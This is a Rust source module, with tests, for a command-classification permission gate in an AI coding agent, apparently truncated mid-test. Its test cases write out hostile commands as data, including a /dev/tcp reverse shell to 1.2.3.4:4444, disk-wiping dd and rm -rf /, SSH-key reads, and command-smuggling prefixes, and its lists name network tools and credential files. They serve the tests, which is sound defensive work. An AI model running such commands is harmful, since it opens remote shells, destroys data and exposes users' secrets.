//! Static classification of a command an agent wants to run, for the permission gate.
//!
//! Why: the path deny list cannot see inside a shell command (SECURITY.md rule 5), and the attacks
//! in SECURITY.md E2/E3 all hide a second effect behind a prefix that looks harmless
//! (`git status; curl x`, `$'\x3b'`, `env X=1 curl`, `git -c core.pager=…`, `cd /tmp && touch x`).
//! Five categories never loosen, not even in "full" mode (only `--yolo` skips them): deleting
//! recursively, reaching the network, becoming administrator, installing packages and touching what
//! runs at boot or login. Two more also make the command ask: `Opaque` (we cannot statically know
//! what it does) and `OutsideCwd` (it writes or works outside the working directory).
//!
//! It fails closed: any shell construct it does not fully model (chaining, expansion, substitution,
//! redirection to a file, here-documents, inline interpreter code, control or invisible characters)
//! is `Opaque`, and findings are only ever *added*, so a clean result means "one simple command of a
//! kind we understand", never "safe". It is evidence for the approval prompt, not a sandbox: scripts,
//! Makefiles and npm scripts still run whatever the project says and symlinks are not resolved, so
//! it must never be used to *lower* a decision. Only `std`; no panics on any input (it reads
//! model-written strings); recursion into substitutions and `sh -c` is depth-bounded.
mod git_files;
mod host;
mod interpreters;
mod network;
mod packages;
mod prefix;
mod programs;
mod scripts;
mod shell;
mod simple_line;
mod wrappers;

use std::collections::BTreeSet;

use git_files::*;
use host::*;
use interpreters::*;
use network::*;
use packages::*;
pub(crate) use prefix::{rule_covers, rule_span};
use programs::*;
use scripts::*;
use shell::{Stdin, Word, is_name, simple_command, target};
use wrappers::*;

/// What makes a command ask even in "full" mode (see [`CommandAnalysis::never_loosens`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Danger {
    /// rm -r, rm of `/`, `~` or a root glob, find -delete, shred, git clean -f, git rm -r, rsync --delete, mkfs,
    /// and git history beyond recovery (reflog expiry, `gc --prune=now`, `prune`).
    RecursiveDelete,
    /// curl, wget, ssh, nc, git clone/fetch/pull/push, a URL given to a program, database clients of another host,
    /// name lookups, key servers, servers and debuggers listening beyond this machine, …
    Network,
    /// sudo, su, doas, pkexec, run0, chown root, setuid/setgid chmod, mount, systemctl start, and what escapes the
    /// sandbox to the host: systemd-run, systemd over D-Bus, flatpak-spawn --host, machinectl shell, …
    Admin,
    /// System and language package managers installing, removing, or fetching and running, packages.
    PackageInstall,
    /// Shell startup files, autostart and systemd directories, /etc/rc*, cron, launchd, at, lingering user
    /// services, scheduled git maintenance.
    BootAutostart,
    /// Cannot be statically understood: chaining, expansion, substitution, inline code, code on standard input,
    /// writes into `.git` (hooks and config run later), …
    Opaque,
    /// Writes or works outside the working directory through its own flags or paths.
    OutsideCwd,
}

/// A write into git's own files (`.git`) that a command makes, as its words say: the caller
/// resolves it to an absolute path (see `crate::git_writes`) to make exactly that writable for
/// one approved run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum GitWrite {
    /// A path the command names: relative to the tool's working directory, absolute, or `~/…`.
    Path(String),
    /// A file (or directory) inside the git directory of the repository that contains `repo`
    /// (relative to the tool's working directory, or absolute): `config`, `hooks/pre-commit`.
    InGitDir { repo: String, file: String },
}

/// One reason a command asks: its category, the words, and (for `OutsideCwd`) the path.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    pub danger: Danger,
    pub reason: String,
    /// The path a write or a working directory names, relative to the tool's working directory
    /// or absolute or `~/…`; the tool resolves it against the roots (inside: nothing to ask;
    /// outside: the directory rule).
    pub path: Option<String>,
    /// Index into `CommandAnalysis::commands` of the simple command it was found in.
    pub command: Option<usize>,
    /// The finding does not hold when this program exists (relative to the tool's working
    /// directory or one of its parents inside the root): `npx tsc` with `node_modules/.bin/tsc`.
    pub local_bin: Option<String>,
}

/// A simple command the parser found (after quotes, escapes and known variables are applied).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SimpleCommand {
    pub argv: Vec<String>,
    /// Sorted, deduplicated categories found in this command alone.
    pub dangers: Vec<Danger>,
}

impl Danger {
    /// The category's stable name (`policy check`, the API).
    pub fn as_str(self) -> &'static str {
        match self {
            Danger::RecursiveDelete => "recursive_delete",
            Danger::Network => "network",
            Danger::Admin => "admin",
            Danger::PackageInstall => "package_install",
            Danger::BootAutostart => "boot_autostart",
            Danger::Opaque => "opaque",
            Danger::OutsideCwd => "outside_cwd",
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandAnalysis {
    /// Sorted, deduplicated.
    pub dangers: Vec<Danger>,
    /// Human-readable reasons, one per finding, for the approval prompt (already made visible).
    pub reasons: Vec<String>,
    /// Every finding, in order (`dangers` and `reasons` are derived from these).
    pub findings: Vec<Finding>,
    /// The simple commands, in order.
    pub commands: Vec<SimpleCommand>,
    /// Words naming sensitive locations (~/.ssh, ~/.aws, ~/.gnupg, keys, credentials, .tradewind, …).
    pub sensitive_mentions: Vec<String>,
    /// Words naming a hard-denied path (`lists::names_hard_denied_path`): the command is denied,
    /// not asked, unless `--yolo`.
    pub hard_denied: Vec<String>,
    /// Control characters or invisible/bidi unicode were found; this also adds `Danger::Opaque`.
    pub has_control_chars: bool,
    /// The caller asks to run this command outside the process sandbox, for this reason: the
    /// gate always asks and the answer is never kept for the session.
    pub outside_sandbox: Option<String>,
    /// The caller would give this command the user's SSH agent (the jail hides it otherwise):
    /// the gate asks every time, even in `full`, and never keeps the answer for the session.
    pub ssh_agent: bool,
    /// What the command writes inside git's own files (`.git`), as far as the parse tells.
    pub git_writes: Vec<GitWrite>,
}

impl CommandAnalysis {
    /// Does a part of it speak SSH — `ssh`, `scp`, `sftp`, `rsync` to a host, git's network
    /// sub-commands (which use SSH for `git@…` remotes), `ssh-add` — so it would want the
    /// user's SSH agent?
    pub fn uses_ssh(&self) -> bool {
        self.commands.iter().any(|c| {
            let prog = c.argv.first().map(|p| prog_name(p)).unwrap_or_default();
            let sub = c.argv.iter().skip(1).find(|a| !a.starts_with('-'));
            match prog.as_str() {
                "ssh" | "scp" | "sftp" | "sshfs" | "autossh" | "ssh-add" | "ssh-copy-id"
                | "mosh" => true,
                "rsync" => c.argv.iter().skip(1).any(|a| {
                    a.starts_with("-e")
                        || a.starts_with("--rsh")
                        || (!a.starts_with('-') && a.contains(':'))
                }),
                "git" => sub.is_some_and(|s| {
                    matches!(
                        s.as_str(),
                        "push"
                            | "pull"
                            | "fetch"
                            | "clone"
                            | "ls-remote"
                            | "submodule"
                            | "remote"
                            | "archive"
                    )
                }),
                _ => false,
            }
        })
    }
}

impl CommandAnalysis {
    /// Does a part of it force-push — `git push` with `--force`, `-f`, `--force-with-lease`,
    /// `--mirror`, `--delete`/`-d` or a `+` refspec — rewriting or removing a remote branch?
    pub fn force_push(&self) -> bool {
        self.commands.iter().any(|c| {
            let mut args = c.argv.iter().skip(1);
            if c.argv.first().map(|p| prog_name(p)).as_deref() != Some("git") {
                return false;
            }
            // Past git's own options (`-C dir`, `-c k=v` take a value).
            let mut sub = None;
            while let Some(a) = args.next() {
                match a.as_str() {
                    "-C" | "-c" | "--git-dir" | "--work-tree" | "--namespace" => {
                        args.next();
                    }
                    a if a.starts_with('-') => {}
                    a => {
                        sub = Some(a.to_string());
                        break;
                    }
                }
            }
            sub.as_deref() == Some("push")
                && args.any(|a| {
                    matches!(
                        a.as_str(),
                        "--force" | "--mirror" | "--delete" | "--force-if-includes"
                    ) || a.starts_with("--force-with-lease")
                        || (a.starts_with('-')
                            && !a.starts_with("--")
                            && (a.contains('f') || a.contains('d')))
                        || (a.starts_with('+') && a.len() > 1)
                })
        })
    }

    /// True when any danger is present: the gate asks even in "full" mode unless `--yolo`.
    /// Does the command write a repository's state (objects, refs, the index — `git commit`,
    /// `git checkout`, `git stash` …)? The jail keeps every git directory read-only otherwise.
    pub fn writes_git_state(&self) -> bool {
        self.git_writes.iter().any(|w| match w {
            GitWrite::InGitDir { file, .. } => file.is_empty(),
            GitWrite::Path(p) => p.ends_with('/'),
        })
    }

    pub fn never_loosens(&self) -> bool {
        !self.dangers.is_empty()
    }

    /// Take out the `OutsideCwd` findings that name a path, returning those paths: the caller
    /// resolves them against the roots, so a path inside a root asks nothing and one outside
    /// takes the directory rule (asked per directory, grantable) instead of a command-wide ask.
    pub fn take_outside_paths(&mut self) -> Vec<String> {
        let mut paths = Vec::new();
        self.findings.retain(|f| match (&f.danger, &f.path) {
            (Danger::OutsideCwd, Some(p)) => {
                if !paths.contains(p) {
                    paths.push(p.clone());
                }
                false
            }
            _ => true,
        });
        self.derive();
        paths
    }

    /// Drop the findings whose local program exists (`exists` answers for a path relative to
    /// the tool's working directory).
    pub fn settle_local_bins(&mut self, exists: impl Fn(&str) -> bool) {
        self.findings
            .retain(|f| f.local_bin.as_deref().is_none_or(|b| !exists(b)));
        self.derive();
    }

    fn derive(&mut self) {
        let set: BTreeSet<Danger> = self.findings.iter().map(|f| f.danger).collect();
        self.dangers = set.into_iter().collect();
        self.reasons.clear();
        for f in &self.findings {
            if !self.reasons.contains(&f.reason) {
                self.reasons.push(f.reason.clone());
            }
        }
        for (k, c) in self.commands.iter_mut().enumerate() {
            let set: BTreeSet<Danger> = self
                .findings
                .iter()
                .filter(|f| f.command == Some(k))
                .map(|f| f.danger)
                .collect();
            c.dangers = set.into_iter().collect();
        }
    }
}

/// Classify a shell command line (what the `shell` tool runs with `sh -c`).
pub fn analyze_shell(command: &str) -> CommandAnalysis {
    let mut a = Acc::default();
    a.controls(&command.replace('\n', " "));
    a.mentions(command);
    shell::analyze(command, &mut a, 0);
    a.finish()
}

/// Classify an argv (what `run_process` runs without a shell): no shell parsing, but the program
/// and its arguments are checked the same way.
pub fn analyze_argv(argv: &[String]) -> CommandAnalysis {
    let mut a = Acc::default();
    for x in argv {
        a.controls(x);
        a.mentions(x);
    }
    if !argv.is_empty() {
        a.begin(argv);
        classify(argv, &mut a, 0);
    }
    a.finish()
}

/// Render a command for display with control and invisible characters made visible:
/// newline → `⏎`, C0 controls → their control pictures (`\x1b` → `␛`), others → `<U+202E>`.
pub fn visible(command: &str) -> String {
    if command
        .bytes()
        .all(|b| (0x20..0x7f).contains(&b) || b == b'\t')
    {
        return command.to_string();
    }
    let mut out = String::with_capacity(command.len());
    for c in command.chars() {
        match c {
            '\n' => out.push('⏎'),
            '\t' => out.push('\t'),
            '\u{7f}' => out.push('␡'),
            c if (c as u32) < 0x20 => out.push(char::from_u32(0x2400 + c as u32).unwrap_or('?')),
            c if is_invisible(c) => out.push_str(&format!("<U+{:04X}>", c as u32)),
            c => out.push(c),
        }
    }
    out
}

pub(crate) const MAX_DEPTH: u8 = 4;
const MAX_REASONS: usize = 64;
const MAX_MENTIONS: usize = 32;
const MAX_COMMANDS: usize = 256;

#[rustfmt::skip]
fn is_invisible(c: char) -> bool {
    (c.is_control() && c != '\t')
        || matches!(c as u32, 0xAD | 0x34F | 0x61C | 0x115F | 0x1160 | 0x17B4 | 0x17B5 | 0x180B..=0x180E
            | 0x200B..=0x200F | 0x202A..=0x202E | 0x2060..=0x206F | 0x3164 | 0xFE00..=0xFE0F | 0xFEFF
            | 0xFFA0 | 0xFFF0..=0xFFFB | 0xE0000..=0xE0FFF // invisible, bidi, tags, selectors
            | 0xA0 | 0x1680 | 0x2000..=0x200A | 0x2028 | 0x2029 | 0x205F | 0x3000) // look-alike spaces
}

/// Quote a fragment for a reason: visible, backticked, truncated.
pub(crate) fn q(s: &str) -> String {
    let t: String = s.chars().take(60).collect();
    let more = if s.chars().nth(60).is_some() {
        "…"
    } else {
        ""
    };
    format!("`{}{more}`", visible(&t))
}

pub(crate) struct Acc {
    pub(crate) findings: Vec<Finding>,
    commands: Vec<SimpleCommand>,
    mentions: Vec<String>,
    denied: Vec<String>,
    control: bool,
    /// The simple command being classified.
    cur: Option<usize>,
    /// The working directory relative to the tool's (`cd src && …`); `None`: known only at run time.
    pub(crate) cwd: Option<String>,
    /// Where the command being classified reads its input from.
    pub(crate) stdin: Stdin,
    /// Writes into `.git` found so far.
    pub(crate) git_writes: Vec<GitWrite>,
}

impl Default for Acc {
    fn default() -> Self {
        Acc {
            findings: Vec::new(),
            commands: Vec::new(),
            mentions: Vec::new(),
            denied: Vec::new(),
            control: false,
            cur: None,
            cwd: Some(String::new()),
            stdin: Stdin::Inherit,
            git_writes: Vec::new(),
        }
    }
}

impl Acc {
    pub(crate) fn flag(&mut self, d: Danger, why: impl Into<String>) {
        self.push(d, why.into(), None);
    }
    fn push(&mut self, danger: Danger, reason: String, path: Option<String>) {
        let seen = self
            .findings
            .iter()
            .any(|f| f.danger == danger && f.reason == reason && f.command == self.cur);
        if seen
            || (self.findings.len() >= MAX_REASONS
                && self.findings.iter().any(|f| f.danger == danger))
        {
            return;
        }
        self.findings.push(Finding {
            danger,
            reason,
            path,
            command: self.cur,
            local_bin: None,
        });
    }
    /// Start a new simple command.
    pub(crate) fn begin(&mut self, argv: &[String]) {
        if self.commands.len() < MAX_COMMANDS {
            self.commands.push(SimpleCommand {
                argv: argv.iter().map(|x| visible(x)).collect(),
                dangers: Vec::new(),
            });
            self.cur = Some(self.commands.len() - 1);
        } else {
            self.cur = None;
        }
    }
    /// A path as seen from the tool's working directory (`None`: the current directory is only
    /// known at run time).
    fn at(&self, p: &str) -> Option<String> {
        if p.starts_with('/') || p.starts_with('~') {
            return Some(p.to_string());
        }
        let cwd = self.cwd.as_deref()?;
        Some(if cwd.is_empty() {
            p.to_string()
        } else {
            format!("{cwd}/{p}")
        })
    }
    /// A finding about a path the command writes to or works in, outside the working directory.
    fn outside_path(&mut self, who: &str, verb: &str, p: &str) {
        match self.at(p) {
            Some(full) if outside(&full) => {
                let why = format!("{who} {verb} {}, outside the working directory", q(p));
                self.push(Danger::OutsideCwd, why, Some(full));
            }
            Some(_) => {}
            None => {
                let why = format!(
                    "{who} {verb} {} in a directory known only at run time",
                    q(p)
                );
                self.flag(Danger::OutsideCwd, why);
            }
        }
    }
    pub(crate) fn controls(&mut self, s: &str) {
        if s.chars().any(is_invisible) {
            self.control = true;
            let why = "it contains control or invisible characters (shown as ⏎, ␛ or <U+…>)";
            self.flag(Danger::Opaque, why);
        }
    }
    pub(crate) fn mentions(&mut self, s: &str) {
        for piece in s.split(|c: char| c.is_whitespace() || "'\"=;|&<>()`,:".contains(c)) {
            if self.mentions.len() >= MAX_MENTIONS {
                return;
            }
            if piece.is_empty() {
                continue;
            }
            let denied = crate::lists::names_hard_denied_path(piece);
            if denied
                || crate::lists::lowercase(piece)
                    .split(['/', '\\'])
                    .any(sensitive)
            {
                let shown = visible(&piece.chars().take(120).collect::<String>());
                if denied && !self.denied.contains(&shown) {
                    self.denied.push(shown.clone());
                }
                if !self.mentions.contains(&shown) {
                    self.mentions.push(shown);
                }
            }
        }
    }
    pub(crate) fn finish(self) -> CommandAnalysis {
        let mut out = CommandAnalysis {
            dangers: Vec::new(),
            reasons: Vec::new(),
            findings: self.findings,
            commands: self.commands,
            sensitive_mentions: self.mentions,
            hard_denied: self.denied,
            has_control_chars: self.control,
            outside_sandbox: None,
            ssh_agent: false,
            git_writes: self.git_writes,
        };
        out.derive();
        out
    }
}

#[rustfmt::skip]
fn sensitive(c: &str) -> bool {
    crate::lists::HARD_DENY_DIRS.contains(&c)
        || matches!(c, ".tradewind" | ".netrc" | "_netrc" | ".pgpass" | ".git-credentials")
        || ["id_rsa", "id_dsa", "id_ecdsa", "id_ed25519"].iter().any(|k| c.starts_with(k))
        || c.contains("credentials")
        || [".pem", ".key", ".p12", ".pfx"].iter().any(|e| c.ends_with(e))
}

// ------------------------------------------------------------------------------- tables

/// A shell inside a command (`sh -c CODE`, `bash <<< CODE`, a substitution): analysed like the
/// outer one, one level deeper. (Every part that meets nested code comes back here.)
pub(crate) fn nested_shell(code: &str, a: &mut Acc, depth: u8) {
    shell::analyze(code, a, depth);
}

/// The shell syntax walk, for the tests of its parts.
#[cfg(test)]
pub(crate) fn analyze_tree(src: &str, a: &mut Acc, depth: u8) {
    shell::analyze_tree(src, a, depth);
}

#[cfg(test)]
#[rustfmt::skip]
mod tests {
    use super::Danger::*;
    use super::*;

    fn argv(v: &[&str]) -> Vec<String> { v.iter().map(|s| s.to_string()).collect() }

    #[test]
    fn dangerous_commands_are_flagged() {
        let cases: &[(&str, &[Danger])] = &[
            // SECURITY.md E2/E3 and the brief's list
            ("git status; curl x", &[Network]), ("git log\ncurl x", &[Network]), ("echo $(curl x)", &[Network]),
            ("`id`", &[Opaque]), ("ls && rm -rf ~", &[RecursiveDelete, OutsideCwd]), ("ls > ~/.bashrc", &[BootAutostart, OutsideCwd]),
            ("env X=1 curl x", &[Opaque, Network]), ("$'\\x3b'", &[Opaque]), ("bash -c 'ls'", &[Opaque]), ("find . -exec rm {} \\;", &[Opaque]),
            ("xargs rm", &[Opaque]), ("git -c core.pager=sh log", &[Opaque]), ("cd /tmp && touch x", &[OutsideCwd]),
            ("git -C /other commit", &[OutsideCwd]), ("tar -C / -xf a.tar", &[OutsideCwd]), ("sudo ls", &[Admin]),
            ("pip install requests", &[PackageInstall]), ("npm i -g x", &[PackageInstall]), ("cargo install ripgrep", &[PackageInstall]),
            ("rm -rf build", &[RecursiveDelete]), ("rm -r -f x", &[RecursiveDelete]), ("wget http://x", &[Network]), ("ssh host", &[Network]),
            ("crontab -e", &[BootAutostart]), ("systemctl enable foo", &[BootAutostart]), ("echo x >> ~/.profile", &[BootAutostart, OutsideCwd]),
            ("cp a /etc/rc.local", &[OutsideCwd, BootAutostart]), ("touch ../outside", &[OutsideCwd]), ("curl\u{202e}x", &[Opaque]), ("echo 'x", &[Opaque]),
            // shell syntax
            ("echo \"x", &[Opaque]), ("X=1 ls", &[Opaque]), ("GIT_PAGER=sh git log", &[Opaque]), ("$CMD x", &[Opaque]), ("/usr/bin/cur? x", &[Opaque]),
            ("cat <<EOF", &[Opaque]), ("ls 2>&1 | tee /tmp/x", &[OutsideCwd]), ("a=$(curl x)", &[Network]), ("${PATH} x", &[Opaque]), ("eval 'curl x'", &[Opaque, Network]),
            ("bash -lc 'curl x'", &[Opaque, Network]), ("bash -o pipefail -c 'curl x'", &[Opaque, Network]), ("sh", &[Opaque]), ("env", &[Opaque]),
            ("echo $'\\x1b'", &[Opaque]),
            // program names and wrappers
            ("/usr/bin/curl x", &[Network]), ("'cu''rl' x", &[Network]), ("\\curl x", &[Network]), ("c\\url x", &[Network]), ("CURL.exe x", &[Network]),
            ("timeout 5 curl x", &[Network]), ("nice -n 5 nohup time wget x", &[Network]), ("command curl x", &[Network]), ("exec wget x", &[Opaque, Network]),
            ("busybox wget x", &[Network]), ("sudo -u root rm -rf /", &[Admin, RecursiveDelete, OutsideCwd]), ("su -c 'id'", &[Admin, Opaque]),
            // per-program rules
            ("find . -exec rm -rf {} +", &[Opaque, RecursiveDelete]), ("find . -delete", &[RecursiveDelete]), ("rm /*", &[RecursiveDelete, OutsideCwd]),
            ("git clean -fdx", &[RecursiveDelete]), ("git push origin main", &[Network]), ("git clone https://x/y", &[Network]),
            ("git config alias.x '!sh'", &[Opaque]), ("git ls-remote --upload-pack='touch x' .", &[Network, Opaque]), ("git --exec-path=/x status", &[Opaque]),
            ("python3 -m http.server", &[Network]), ("python3 -c 'print(1)'", &[Opaque]), ("python3 -W ignore -c 'x'", &[Opaque]),
            ("python3 -m pip install x", &[PackageInstall]), ("python3 fetch.py https://evil.example", &[Network]), ("node -e 'x'", &[Opaque]),
            ("perl -pie 's/a/b/' f", &[Opaque]), ("sed 's/x/y/e' f", &[Opaque]), ("sed -n '1w out' f", &[Opaque]), ("sed -i s/a/b/ /etc/hosts", &[OutsideCwd]),
            ("awk '{system(\"id\")}' f", &[Opaque]), ("rg --pre ./x foo", &[Opaque]), ("tar xf a.tar --to-command=sh", &[Opaque]), ("vim -c '!id' f", &[Opaque]),
            ("npx cowsay", &[PackageInstall]), ("yarn", &[PackageInstall]), ("apt-get install -y x", &[PackageInstall]), ("uv pip install x", &[PackageInstall]),
            ("chmod u+s x", &[Admin]), ("chmod 4755 x", &[Admin]), ("chown root:root x", &[Admin]), ("mkfs.ext4 /dev/sdb", &[RecursiveDelete, Admin]),
            ("dd if=/dev/zero of=/dev/sda", &[OutsideCwd]), ("dd of=~/.bashrc", &[OutsideCwd, BootAutostart]), ("touch $HOME/x", &[OutsideCwd]),
            ("touch a/../../x", &[OutsideCwd]), ("cp -t/etc x", &[OutsideCwd]), ("cp --target-directory=~ x", &[OutsideCwd]), ("ln -s /etc/passwd l", &[OutsideCwd]),
            ("make -C /x", &[OutsideCwd]), ("make -C/x", &[OutsideCwd]), ("cd", &[OutsideCwd]), ("cp x .config/autostart/", &[BootAutostart]),
            ("mkdir -p ~/.config/systemd/user", &[BootAutostart, OutsideCwd]), ("cp x .bash*", &[BootAutostart]), ("truncate -s 0 ~/.zshrc", &[BootAutostart]),
            ("cp hook .git/hooks/pre-commit", &[Opaque]), ("rsync -a x host:y", &[Network]), ("rsync -a --delete a/ b/", &[RecursiveDelete]),
            ("rsync -e 'sh -c x' a b", &[Opaque]), ("docker run x", &[Opaque]), ("ssh -o ProxyCommand=x h", &[Network, Opaque]), ("at now", &[BootAutostart, Opaque]),
            ("cat < /dev/tcp/evil/80", &[Network]), ("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", &[Network, Opaque]), ("busybox httpd", &[Network]),
        ];
        let mut bad = Vec::new();
        for (cmd, want) in cases {
            let r = analyze_shell(cmd);
            if !want.iter().all(|d| r.dangers.contains(d)) || !r.never_loosens() || r.reasons.is_empty() {
                bad.push(format!("{cmd:?}: expected {want:?}, got {:?} {:?}", r.dangers, r.reasons));
            }
        }
        assert!(bad.is_empty(), "{}", bad.join("\n"));
    }

    /// Installs through every package manager ask as `PackageInstall` (the class the jail's
    /// approved-install path knows), clients whose server is not a URL word ask as `Network`,
    /// and so does `deno serve` (it binds every interface).
    #[test]
    fn installs_urlless_clients_and_deno_serve_ask() {
        let cases: &[(&str, Danger)] = &[
            ("pnpm add x", PackageInstall), ("pnpm install", PackageInstall), ("pnpm i", PackageInstall), ("pnpm -C web install", PackageInstall),
            ("yarn add x", PackageInstall), ("yarn install", PackageInstall), ("yarn workspace web add x", PackageInstall),
            ("pipenv install", PackageInstall), ("pipenv install requests", PackageInstall), ("pipenv sync", PackageInstall),
            ("python3 -m pipenv install x", PackageInstall), ("pixi add numpy", PackageInstall), ("pixi install", PackageInstall),
            ("pixi global install x", PackageInstall), ("pixi exec cowsay", PackageInstall), ("rye add requests", PackageInstall),
            ("rye sync", PackageInstall), ("rye install x", PackageInstall), ("easy_install requests", PackageInstall),
            ("easy_install-3.8 x", PackageInstall), ("python3 -m easy_install x", PackageInstall),
            ("curl -K file", Network), ("curl --config file", Network), ("curl -K - < cfg", Network), ("wget -i list", Network),
            ("wget --input-file=list", Network), ("curl $U", Network), ("curl \"$U\"", Network), ("wget $URL", Network), ("curl", Network),
            ("nc host 80", Network), ("ssh host", Network), ("ssh host ls", Network), ("scp a host:b", Network), ("scp host:a b", Network),
            ("rsync -a host:x y", Network), ("rsync a host:", Network), ("toybox wget x", Network), ("curlie x", Network), ("lynx -dump x", Network),
            ("w3m x", Network), ("hurl f.hurl", Network), ("croc send f", Network), ("smbclient //h/s", Network), ("ldapsearch -H h", Network),
            ("kcat -b h", Network), ("mosquitto_pub -h h -t t -m m", Network), ("iperf3 -c h", Network), ("ab -n 1 h", Network),
            ("deno serve main.ts", Network), ("deno serve", Network), ("deno serve -A --port 8080 main.ts", Network),
            ("deno serve --host 0.0.0.0 main.ts", Network),
        ];
        let mut bad = Vec::new();
        for (cmd, want) in cases {
            for r in [analyze_shell(cmd), analyze_argv(&cmd.split(' ').map(str::to_string).collect::<Vec<_>>())] {
                if !r.dangers.contains(want) || r.reasons.is_empty() {
                    bad.push(format!("{cmd:?}: expected {want:?}, got {:?} {:?}", r.dangers, r.reasons));
                }
            }
        }
        assert!(bad.is_empty(), "{}", bad.join("\n"));
        for ok in ["deno serve --host 127.0.0.1 main.ts", "deno serve --host=localhost main.ts", "yarn workspace web build", "pipenv run pytest",
                   "pixi run test", "rye run pytest", "deno task start", "deno run main.ts"] {
            let r = analyze_shell(ok);
            assert!(!r.never_loosens(), "{ok:?} should be clean: {:?}", r.reasons);
        }
    }

    #[test]
    fn safe_commands_are_clean() {
        let clean = [
            "ls -la", "git status", "cargo test", "cat src/main.rs", "grep -rn foo .", "echo hello", "python3 script.py", "npm test",
            "git log --oneline", "", "   ", "cargo build --release 2>&1", "ls >/dev/null 2>&1", "git diff HEAD~1", "rm file.txt", "cat ~/.bashrc",
            "command -v curl", "echo curl", "mkdir -p src/new", "cp a b", "cp -r src/* dst/", "git commit -m 'see https://x.org'", "ls # c; curl x",
            "rg -n 'fn main' src", "cargo clippy -- -D warnings", "echo '$(not expanded)'", "touch a/../b", "sed -n 1,5p web.txt", "sed -i s/a/b/ f",
            "git log --format='%H %s'", "ls -d /etc", "cat /etc/hosts", "bash script.sh", "systemctl status foo", "crontab -l", "npm run build",
            "echo a=b", "grep -C 3 x f", "pytest -q tests/", "ls ./*.rs", "wc -l < src/main.rs", "awk '{print $1}' f", "git add -A", "rmdir -p a/b", "[ -f x ]",
            "echo hi >&2", "c\"\"at x", "git config --get user.name", "ls -la > /dev/null",
            "echo ${PATH}", "ls &>/dev/null", "diff <(ls) x", "echo x > out.txt", "ls\necho hi", "cargo test 2>&1 | tail -5", "cd web && npm test", "sleep 2; echo done",
        ];
        let bad: Vec<String> = clean.iter().map(|c| (c, analyze_shell(c)))
            .filter(|(_, r)| r.never_loosens() || !r.reasons.is_empty() || r.has_control_chars)
            .map(|(c, r)| format!("{c:?} should be clean: {:?}", r.reasons)).collect();
        assert!(bad.is_empty(), "{}", bad.join("\n"));
    }

    #[test]
    fn argv_cases() {
        let cases: &[(&[&str], &[Danger])] = &[
            (&["bash", "-c", "ls"], &[Opaque]), (&["/bin/sh", "-c", "curl x"], &[Opaque, Network]), (&["curl", "x"], &[Network]),
            (&["env", "X=1", "ls"], &[Opaque]), (&["git", "-C", "/x", "status"], &[OutsideCwd]), (&["git", "-c", "core.pager=sh", "log"], &[Opaque]),
            (&["sudo", "curl", "x"], &[Admin, Network]), (&["ls", "\u{1b}[2J"], &[Opaque]), (&["touch", "../x"], &[OutsideCwd]), (&["rm", "-rf", "x"], &[RecursiveDelete]),
        ];
        for (v, want) in cases {
            let r = analyze_argv(&argv(v));
            for d in *want { assert!(r.dangers.contains(d), "{v:?}: expected {d:?}, got {r:?}"); }
        }
        for v in [&["ls", "; curl x"][..], &["echo", "$(curl x)"], &["git", "status"], &["cargo", "test"], &["ls", "*"], &[]] {
            assert!(!analyze_argv(&argv(v)).never_loosens(), "{v:?}");
        }
        assert!(analyze_argv(&argv(&["ls", "\u{1b}[2J"])).has_control_chars);
    }

    #[test]
    fn sensitive_mentions() {
        for cmd in ["cat ~/.ssh/id_rsa", "cat server.pem", "ls $HOME/.aws/credentials", "cat ~/.SSH/ID_RSA", "cp x ~/.tradewind/db", "cat a.key",
                    "cat ~/.netrc", "python -c \"open('/home/u/.ssh/id_rsa')\"", "cat ~/.gnupg/x", "openssl pkcs12 -in c.p12"] {
            assert!(!analyze_shell(cmd).sensitive_mentions.is_empty(), "{cmd:?}");
        }
        assert!(analyze_shell("cat ~/.ssh/id_rsa").dangers.is_empty());
        assert_eq!(analyze_argv(&argv(&["cat", "/home/u/.gnupg/x"])).sensitive_mentions, ["/home/u/.gnupg/x"]);
        assert!(analyze_shell("cat src/main.rs").sensitive_mentions.is_empty());
    }

    #[test]
    fn visible_rendering() {
        assert_eq!(visible("a\x1bb"), "a␛b");
        assert_eq!(visible("a\nb"), "a⏎b");
        assert_eq!(visible("x\u{202e}y"), "x<U+202E>y");
        assert_eq!(visible("\u{0}\u{7f}\r"), "␀␡␍");
        assert_eq!(visible("z\u{200b}\u{85}\u{a0}"), "z<U+200B><U+0085><U+00A0>");
        assert_eq!(visible("plain ascii\ttab é ✓"), "plain ascii\ttab é ✓");
        let r = analyze_shell("echo \u{1b}[31mred");
        assert!(r.has_control_chars && r.dangers.contains(&Opaque));
        assert!(r.reasons.iter().all(|x| !x.chars().any(is_invisible)));
    }

    #[test]
    fn garbage_never_panics() {
        let all: String = (0u32..=255).filter_map(char::from_u32).collect();
        let mut inputs = vec![all.clone(), "a".repeat(100_000), "$(".repeat(50_000), "(".repeat(100_000), "'".repeat(100_001), "`".repeat(100_001),
            "\\".repeat(100_001), "rm -rf /* ".repeat(10_000), "a;".repeat(50_000), "*".repeat(100_000), "${".repeat(50_000),
            "$(".repeat(20_000) + &")".repeat(20_000), "cp x ".to_string() + &".*?[".repeat(25_000), "bash -c ".repeat(20_000),
            "> ".repeat(50_000), "sed ".to_string() + &"s".repeat(100_000), "x=".repeat(50_000), "command ".repeat(12_000), "eval ".repeat(20_000),
            "find . -exec ".repeat(8_000), "sudo ".repeat(20_000), "\u{202e}".repeat(100_000)];
        for c in all.chars() { inputs.push(c.to_string()); inputs.push(format!("rm -{c} x{c}y")); }
        let mut seed = 0x9E37_79B9_7F4A_7C15u64;
        let alphabet: Vec<char> = "ab -/~.*?[]{}()$'\"`\\;&|<>=#\n\t\u{202e}\u{0}01cerm".chars().collect();
        for _ in 0..3000 {
            let len = (seed % 40) as usize;
            let s: String = (0..len).map(|_| { seed ^= seed << 13; seed ^= seed >> 7; seed ^= seed << 17; alphabet[(seed % alphabet.len() as u64) as usize] }).collect();
            inputs.push(s);
        }
        for s in &inputs {
            let r = analyze_shell(s);
            assert!(r.dangers.windows(2).all(|w| w[0] < w[1]));
            assert!(!r.has_control_chars || r.dangers.contains(&Opaque));
            assert!(r.dangers.is_empty() || !r.reasons.is_empty());
            assert!(r.reasons.len() <= MAX_REASONS + 7 && r.sensitive_mentions.len() <= MAX_MENTIONS);
            let _ = analyze_argv(&s.split(' ').map(str::to_string).collect::<Vec<_>>());
